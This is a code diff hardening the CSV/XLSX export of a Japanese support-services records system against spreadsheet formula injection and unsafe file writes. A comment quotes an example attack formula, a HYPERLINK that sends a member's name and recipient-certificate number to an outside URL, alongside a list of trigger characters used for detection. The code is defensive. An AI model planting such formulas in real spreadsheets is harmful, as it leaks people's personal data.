@@ -10,9 +10,13 @@ from __future__ import annotations
 
 import csv
 import io
+import os
+import re
+import tempfile
 from collections.abc import Sequence
 from dataclasses import dataclass
-from datetime import date, datetime
+from datetime import date, datetime, time
+from pathlib import Path
 from zoneinfo import ZoneInfo
 
 from sqlalchemy import func, select
@@ -34,7 +38,9 @@ from storage.models import (
 
 KINDS = ("nippo", "support-records", "zaitaku-list", "eval-sheet")
 FORMATS = ("csv", "xlsx")
-Cell = str | int | None
+Cell = str | int | float | date | time | None
+"""A table cell. Text (`str`) is what a member or staff wrote, or built from it, and is never
+trusted: `render` neutralises it. Numbers, dates and times are typed and written as such."""
 
 MODE_LABELS = {"zaitaku": "在宅", "tsusho": "通所", "off": "休み"}
 STATUS_LABELS = {"open": "未報告", "started": "作業中", "ended": "終了", "absent": "欠席"}
@@ -122,12 +128,15 @@ async def _staff_names(session: AsyncSession, ids: set[int | None]) -> dict[int,
     return {int(r[0]): str(r[1]) for r in rows}
 
 
-def _hm(at: datetime | None, tz: ZoneInfo) -> str | None:
-    return at.astimezone(tz).strftime("%H:%M") if at else None
+def _hm(at: datetime | None, tz: ZoneInfo) -> time | None:
+    return at.astimezone(tz).time().replace(second=0, microsecond=0) if at else None
 
 
-def _num(v: float | int | None) -> str | None:
-    return None if v is None else f"{v:g}"
+def _num(v: float | int | None) -> int | float | None:
+    """A whole number as an int (睡眠 7.0 → 7, as `:g` showed it), otherwise as it is."""
+    if v is None:
+        return None
+    return int(v) if float(v).is_integer() else v
 
 
 async def _nippo(
@@ -165,7 +174,7 @@ async def _nippo(
                 m.id,
                 m.name,
                 m.recipient_no,
-                r.business_date.isoformat(),
+                r.business_date,
                 MODE_LABELS.get(r.mode, r.mode),
                 STATUS_LABELS.get(r.status, r.status),
                 _hm(r.start_at, tz),
@@ -213,7 +222,7 @@ async def _support(
         (
             s.member_id,
             by_id[s.member_id].name,
-            s.business_date.isoformat(),
+            s.business_date,
             _hm(s.at, tz),
             KIND_LABELS.get(s.kind, s.kind),
             CHANNEL_LABELS.get(s.channel, s.channel),
@@ -305,28 +314,79 @@ async def _eval_sheet(
 
 # --- file formats --------------------------------------------------------------------------
 
+# Formula injection (CSV injection, OWASP): a spreadsheet runs a cell that begins with one of
+# these as a formula, so `=HYPERLINK("http://…"&B2&C2,"詳細")` typed by a member would send
+# the row's 氏名 and 受給者証番号 away when clicked. Excel also reads the full-width forms
+# (＝＋－＠) and skips leading blanks. TAB and CR are on OWASP's list as well.
+FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
+SAFE_PREFIX = "'"
+_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")  # not allowed in XLSX XML
 
-def to_csv(table: Table) -> bytes:
+
+def neutralise(value: Cell) -> Cell:
+    """A text cell that a spreadsheet would read as a formula, with a leading `'`.
+
+    Applies to every `str`, wherever it came from (a text "-5" is text); ints, floats, dates
+    and times are returned as they are (a negative number stays a number). Idempotent.
+    """
+    if not isinstance(value, str) or not value:
+        return value
+    if value[0] in FORMULA_TRIGGERS or value.lstrip()[:1] in FORMULA_TRIGGERS:
+        return SAFE_PREFIX + value
+    return value
+
+
+def neutralised(table: Table) -> Table:
+    """The table with every text cell (title, headers, rows) neutralised."""
+    return Table(
+        str(neutralise(table.title)),
+        tuple(str(neutralise(h)) for h in table.headers),
+        [tuple(neutralise(c) for c in row) for row in table.rows],
+    )
+
+
+def _csv_text(value: Cell) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, float):
+        return f"{value:g}"
+    if isinstance(value, time):
+        return value.strftime("%H:%M")
+    if isinstance(value, date):
+        return value.isoformat()
+    return str(value)
+
+
+def _write_csv(table: Table) -> bytes:
     """UTF-8 with a BOM, so that Excel in Japan opens it without mojibake."""
     out = io.StringIO(newline="")
     writer = csv.writer(out, lineterminator="\r\n")
     writer.writerow(table.headers)
-    writer.writerows(["" if c is None else c for c in row] for row in table.rows)
+    writer.writerows([_csv_text(c) for c in row] for row in table.rows)
     return out.getvalue().encode("utf-8-sig")
 
 
-def to_xlsx(table: Table) -> bytes:
+def _write_xlsx(table: Table) -> bytes:
     from openpyxl import Workbook
     from openpyxl.styles import Font
 
     wb = Workbook()
     ws = wb.active
     ws.title = table.title[:31]
-    ws.append(list(table.headers))
+    for r, values in enumerate((table.headers, *table.rows), start=1):
+        for c, value in enumerate(values, start=1):
+            cell = ws.cell(row=r, column=c)
+            if isinstance(value, str):
+                cell.value = _XLSX_ILLEGAL.sub("", value)
+                cell.data_type = "s"  # text is a string, never a formula ("=…") or error ("#…")
+            elif value is not None:
+                cell.value = value
+                if isinstance(value, time):
+                    cell.number_format = "hh:mm"
+                elif isinstance(value, date):
+                    cell.number_format = "yyyy-mm-dd"
     for cell in ws[1]:
         cell.font = Font(bold=True)
-    for row in table.rows:
-        ws.append(list(row))
     ws.freeze_panes = "A2"
     buf = io.BytesIO()
     wb.save(buf)
@@ -334,16 +394,88 @@ def to_xlsx(table: Table) -> bytes:
 
 
 def render(table: Table, fmt: str) -> bytes:
-    if fmt == "csv":
-        return to_csv(table)
-    if fmt == "xlsx":
-        return to_xlsx(table)
-    raise AdminError(f"unknown format {fmt!r}; choose csv or xlsx")
+    """The one way a Table becomes a file: its text is neutralised here, for every kind."""
+    if fmt not in FORMATS:
+        raise AdminError(f"unknown format {fmt!r}; choose csv or xlsx")
+    safe = neutralised(table)
+    return _write_csv(safe) if fmt == "csv" else _write_xlsx(safe)
+
+
+def to_csv(table: Table) -> bytes:
+    return render(table, "csv")
+
+
+def to_xlsx(table: Table) -> bytes:
+    return render(table, "xlsx")
 
 
 def filename(kind: str, month: date, member: Member | None, fmt: str) -> str:
     who = f"-member{member.id}" if member else ""
     return f"{kind}-{month:%Y-%m}{who}.{fmt}"
+
+
+# --- writing the file (`nippo export --out`) -----------------------------------------------
+
+# One line each for staff; the CLI prints them after "error: " and exits 2.
+OUT_IS_SYMLINK = (
+    "出力先 {path} はシンボリックリンクなので書き込みません。別のファイル名を指定してください。"
+)
+OUT_EXISTS = "出力先 {path} はすでにあります。上書きするときは --force を付けてください。"
+OUT_NOT_A_FILE = "出力先 {path} はファイルではありません。別のファイル名を指定してください。"
+OUT_UNWRITABLE = "出力先 {path} に書き込めません({reason})。"
+
+
+def check_target(path: Path, *, force: bool) -> None:
+    """Refuse a symlink (even with --force), a directory, and an existing file without force."""
+    if path.is_symlink():
+        raise AdminError(OUT_IS_SYMLINK.format(path=path))
+    if path.exists():
+        if not path.is_file():
+            raise AdminError(OUT_NOT_A_FILE.format(path=path))
+        if not force:
+            raise AdminError(OUT_EXISTS.format(path=path))
+
+
+def write_file(path: Path, data: bytes, *, force: bool = False) -> None:
+    """Write an export readable by its owner only (0600): records name members.
+
+    A new file is created with O_EXCL (and O_NOFOLLOW), so a symlink or file that appears
+    after the check is refused too. With `force` an existing regular file is replaced by
+    renaming a fresh 0600 file over it: the old file's mode and any other hard link to it are
+    left alone, and a symlink put there meanwhile is replaced, never followed.
+    """
+    check_target(path, force=force)
+    try:
+        if not path.exists():
+            flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_NOFOLLOW", 0)
+            try:
+                fd = os.open(path, flags | getattr(os, "O_BINARY", 0), 0o600)
+            except FileExistsError:
+                check_target(path, force=False)  # appeared meanwhile: say what it is
+                raise
+            try:
+                with os.fdopen(fd, "wb") as fh:
+                    fh.write(data)
+            except BaseException:
+                path.unlink(missing_ok=True)  # no half-written export left behind
+                raise
+            return
+        fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
+        try:
+            with os.fdopen(fd, "wb") as fh:
+                fh.write(data)
+            os.replace(tmp, path)
+        except BaseException:
+            Path(tmp).unlink(missing_ok=True)
+            raise
+    except OSError as exc:
+        if isinstance(exc, FileNotFoundError):
+            reason = "フォルダがありません"
+        elif isinstance(exc, PermissionError):
+            reason = "書き込む権限がありません"
+        else:
+            reason = exc.strerror or type(exc).__name__
+        raise AdminError(OUT_UNWRITABLE.format(path=path, reason=reason)) from exc
 
 
 async def export(
